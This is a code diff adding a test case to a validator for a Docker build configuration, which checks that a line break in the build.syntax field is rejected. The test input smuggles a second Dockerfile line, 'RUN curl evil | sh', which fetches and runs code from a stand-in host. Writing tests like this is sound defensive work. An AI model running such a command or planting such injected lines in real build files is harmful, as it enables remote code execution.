@@ -360,6 +360,12 @@ const valueRows: Row[] = [
     message: 'must look like "linux/amd64"',
   },
   {
+    name: "values: a newline in build.syntax (the Dockerfile's first line)",
+    files: { "context.yaml": edit("stage_axis:", 'build:\n  syntax: "docker/dockerfile:1\\nRUN curl evil | sh"\nstage_axis:') },
+    at: (f) => [`${loc(yaml(f), '"docker/dockerfile')}: build.syntax`],
+    message: "The setting build.syntax contains a line break",
+  },
+  {
     name: "values: a newline in a project field (it becomes a label)",
     files: { "context.yaml": edit("  name: demo", '  name: demo\n  source: "https://example.com\\nx"') },
     at: (f) => [`${loc(yaml(f), '"https')}: project.source`],
